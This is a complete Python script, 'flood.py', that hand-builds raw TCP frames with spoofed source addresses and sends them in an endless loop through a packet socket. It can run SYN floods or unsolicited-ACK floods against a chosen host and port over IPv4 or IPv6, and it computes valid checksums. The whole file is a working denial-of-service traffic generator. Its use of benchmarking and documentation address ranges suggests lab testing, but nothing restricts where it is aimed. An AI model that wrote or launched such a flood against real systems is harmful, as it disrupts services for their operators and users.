"""A sender of raw TCP frames from random sources: flood.py INTERFACE MAC ADDRESS PORT [syn|ack [COUNT]]; without a count until it is ended."""
import ipaddress
import os
import random
import socket
import struct
import sys


def folded(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def frame(mac, target, port, flags, rand):
    """One frame: a SYN with the options of a usual client, or an ACK of no connection."""
    options = b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + struct.pack("!II", rand.getrandbits(32), 0) + b"\x01\x03\x03\x07" if flags == 2 else b""
    size = 20 + len(options)
    tcp = struct.pack("!HHIIBBHHH", rand.randrange(1024, 65536), port, rand.getrandbits(32), 0 if flags == 2 else rand.getrandbits(32),
                      size // 4 << 4, flags, 64240, 0, 0) + options
    if target.version == 4:
        source = struct.pack("!BBBB", 198, 18 + rand.getrandbits(1), rand.getrandbits(8), 1 + rand.randrange(254))
        pseudo = source + target.packed + struct.pack("!HH", 6, size)
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + size, rand.getrandbits(16), 0x4000, 64, 6, 0) + source + target.packed
        head = head[:10] + struct.pack("!H", folded(head)) + head[12:]
        kind = b"\x08\x00"
    else:
        source = bytes.fromhex("20010db8") + rand.randbytes(12)
        pseudo = source + target.packed + struct.pack("!II", size, 6)
        head = struct.pack("!IHBB", 6 << 28, size, 6, 64) + source + target.packed
        kind = b"\x86\xdd"
    tcp = tcp[:16] + struct.pack("!H", folded(pseudo + tcp)) + tcp[18:]
    return mac + b"\x02\x00\x00\x00\x00\x01" + kind + head + tcp


def main(interface, mac, target, port, kind="syn", count=0):
    rand = random.Random(os.getpid())
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    flags = 2 if kind == "syn" else 16
    frames = [frame(bytes.fromhex(mac), ipaddress.ip_address(target), int(port), flags, rand) for _ in range(int(count) or 5000)]
    while True:
        for f in frames:
            out.send(f)
        if count:
            return


if __name__ == "__main__":
    main(*sys.argv[1:])
